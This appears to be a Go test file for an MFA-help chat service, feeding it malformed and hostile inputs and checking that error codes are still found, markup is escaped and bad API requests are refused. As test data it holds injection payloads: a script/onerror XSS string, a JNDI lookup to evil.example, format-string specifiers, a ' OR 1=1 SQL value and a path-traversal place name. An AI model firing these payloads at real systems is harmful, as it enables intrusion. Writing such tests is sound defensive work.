package main

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"net/http"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"mfahelp/flows"
)

// TestBadTexts has people say what nobody should: whatever was acknowledged has
// an answer with a title, and nothing of it becomes markup.
func TestBadTexts(t *testing.T) {
	t.Parallel()
	real := "Error Code: 500121, Request Id: 2b1ff9a4-3c5d-4e6f-8a7b-9c0d1e2f3a4b, Timestamp: 2025-01-02T03:04:05Z"
	code, question := "AADSTS500121", sentence(t, "help.question.title")
	rubbish := make([]byte, 64<<10)
	r := rand.NewChaCha8([32]byte{})
	_, _ = r.Read(rubbish)
	for _, test := range []struct {
		name, text string
		says       string // the answer
	}{
		{"nothing that can be seen", "\u200b\u2060\ufeff", question},
		{"a megabyte of one letter", strings.Repeat("a", 1<<20), question},
		{"a megabyte of beginnings", strings.Repeat("AADSTS", 1<<20/6), question},
		{"a megabyte of brackets", strings.Repeat("{[", 1<<19), question},
		{"a megabyte of digits", strings.Repeat("5", 1<<20), question},
		{"an error behind a megabyte of nothing", strings.Repeat(" ", 1<<20-len(real)) + real, code},
		{"bytes that are no text", string(rubbish), question},
		{"the same, with an error", string(rubbish) + "\n" + real, code},
		{"zeroes", real + strings.Repeat("\x00", 1000), code},
		{"right to left", "\u202e" + real + "\u202c\u2066", code},
		{"letters under letters", strings.Repeat("e\u0301\u0302\u0303\u0304", 10_000) + real, code},
		{"markup of the web", `"><script>alert(1)</script><img src=x onerror=alert(1)>` + real, code},
		{"markup of Slack", "<!channel> <@U123> <https://evil.example|sign in> " + real, code},
		{"markup of Teams", "<at>everyone</at> {{DATE(2025-01-01T00:00:00Z)}} [a](https://evil.example) " + real, code},
		{"orders to a template", "{{.Secret}} ${jndi:ldap://evil.example/a} %s%s%n {0} {1}", question},
		{"a command that there is not", "/mfa-help drop tables; --", question},
		{"fifty errors", manyErrors(50), "AADSTS5001"},
	} {
		t.Run(test.name, func(t *testing.T) {
			o := &outage{T: t, theatre: openTheatre(t)}
			o.people = []*visitor{visit(t, o.url, "sofia.almeida")}
			o.accepted = []string{o.people[0].mustSay(t, test.text)}
			o.pass(time.Second)
			o.pass(20 * time.Minute) // whatever has to be waited for
			m := o.sees(o.people[0])
			if m.Title == "" || m.Status == "waiting" || !strings.Contains(m.text(), test.says) {
				t.Errorf("got %q, want %q", m.text(), test.says)
			}
			if n := utf8.RuneCountInString(m.text()); n > 3000 {
				t.Errorf("the answer has %d letters", n)
			}
			status, page := get(t, o.url+"/panes/employee/direct", "Authorization", "Bearer "+o.people[0].token)
			if status != http.StatusOK || strings.Contains(page, "<script>alert") || strings.Contains(page, "<img src=x") || strings.Contains(page, `href="https://evil`) {
				t.Errorf("the page has it as markup, %d", status)
			}
		})
	}
}

// manyErrors is a text with n different errors, the first of which is of a
// second factor.
func manyErrors(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "AADSTS%d: Something went wrong. Trace ID: %08x-1111-4222-8333-444444444400 Correlation ID: %08x-5555-4666-8777-888888888888 Timestamp: 2025-01-02 03:04:%02dZ\n",
			500121+i, i, i, i%60)
	}
	return b.String()
}

// TestBadRequests sends the page's API what is no request: each is refused with
// a sentence, none is taken, and the next good one is.
func TestBadRequests(t *testing.T) {
	t.Parallel()
	s := openTheatre(t)
	v := visit(t, s.url, "sofia.almeida")
	for _, test := range []struct {
		name, path string
		body       string
		status     int
		code       string
	}{
		{"nothing", "/api/messages", "", http.StatusBadRequest, "malformed"},
		{"half an object", "/api/messages", `{"place":"direct","text":"a`, http.StatusBadRequest, "malformed"},
		{"an array", "/api/messages", `[]`, http.StatusBadRequest, "malformed"},
		{"null", "/api/messages", `null`, http.StatusNotFound, "no-place"},
		{"a number for a text", "/api/messages", `{"place":"direct","text":500121}`, http.StatusBadRequest, "malformed"},
		{"bytes", "/api/messages", "\xff\xfe\x00\x01", http.StatusBadRequest, "malformed"},
		{"a megabyte of brackets", "/api/messages", strings.Repeat("[", 1<<20), http.StatusBadRequest, "malformed"},
		{"brackets in a field", "/api/messages", `{"text":` + strings.Repeat("[", 1<<20), http.StatusBadRequest, "malformed"},
		{"two objects", "/api/messages", `{"place":"direct","text":"a"}{}`, http.StatusBadRequest, "malformed"},
		{"who it is from", "/api/messages", `{"place":"direct","text":"a","from":"priya.raman"}`, http.StatusBadRequest, "malformed"},
		{"an empty text", "/api/messages", `{"place":"direct","text":""}`, http.StatusUnprocessableEntity, "empty"},
		{"only spaces", "/api/messages", `{"place":"direct","text":" \r\n\t\u00a0\u3000"}`, http.StatusUnprocessableEntity, "empty"},
		{"too much", "/api/messages", `{"place":"direct","text":"` + strings.Repeat("a", 1<<20+1) + `"}`, http.StatusRequestEntityTooLarge, "too-large"},
		{"far too much", "/api/messages", `{"place":"direct","text":"` + strings.Repeat("a", 5<<20) + `"}`, http.StatusRequestEntityTooLarge, "too-large"},
		{"another's place", "/api/messages", `{"place":"admins","text":"a"}`, http.StatusForbidden, "not-yours"},
		{"a place that there is not", "/api/messages", `{"place":"../direct","text":"a"}`, http.StatusNotFound, "no-place"},
		{"an id with a line in it", "/api/messages", `{"place":"direct","text":"a","id":"a\nb"}`, http.StatusUnprocessableEntity, "bad-id"},
		{"a press of nothing", "/api/presses", `{"place":"direct"}`, http.StatusNotFound, "no-button"},
		{"a press with half a form", "/api/presses", `{"place":"direct","key":"a","fields":["b"]}`, http.StatusBadRequest, "malformed"},
		{"somebody who is nobody", "/api/sessions", `{"person":"' OR 1=1"}`, http.StatusUnprocessableEntity, "no-person"},
	} {
		var no *refusal
		err := v.ask(t.Context(), http.MethodPost, test.path, []byte(test.body), http.StatusAccepted, nil)
		if !errors.As(err, &no) || no.status != test.status || no.Code != test.code || no.Sentence == "" || strings.HasPrefix(no.Sentence, "web.") {
			t.Errorf("%s: got %v, want %d %s and a sentence", test.name, err, test.status, test.code)
		}
	}
	o := &outage{T: t, theatre: s, people: []*visitor{v}}
	o.pass(time.Second)
	lines, err := s.app.store.Trail(t.Context(), 0, 100)
	if said := o.reads(v, "direct").Messages; len(said) > 0 || len(lines) > 0 || err != nil {
		t.Errorf("something was taken: %+v, %+v, %v", said, lines, err)
	}
	event := v.mustSay(t, "AADSTS50126")
	o.pass(time.Second)
	if c, err := s.app.store.Case(t.Context(), flows.NewKey("web/"+event)); err != nil || c.Report.Code != "50126" {
		t.Errorf("then: got %+v, %v", c, err)
	}
}
